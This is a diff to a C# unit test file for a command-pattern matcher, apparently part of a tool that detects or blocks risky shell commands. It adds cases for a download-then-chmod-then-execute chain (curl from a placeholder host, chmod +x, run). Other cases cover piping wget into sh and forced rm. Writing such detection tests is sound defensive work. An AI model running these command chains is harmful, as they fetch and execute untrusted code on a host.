@@ -55,6 +55,8 @@ public sealed class CommandPatternTests
     [InlineData("sh &", "sh && true", false)]
     [InlineData("python* -c", "python3.12 -c x", true)]
     [InlineData("$open -c", "$x -c y", true)]
+    [InlineData("curl ; chmod *x* ; ./*", "curl e.example -o x; chmod +x x; ./x --now", true)]
+    [InlineData("curl ; chmod *x* ; ./*", "curl e.example -o x; chmod +x x; x", false)]
     [InlineData("sh ^*wget*", "echo wget x | sh", true)]
     [InlineData("rm -f", "/usr/bin/rm -f x", true)]
     [InlineData("rm -f", "C:\\\\bin\\\\RM.EXE -f x", true)]
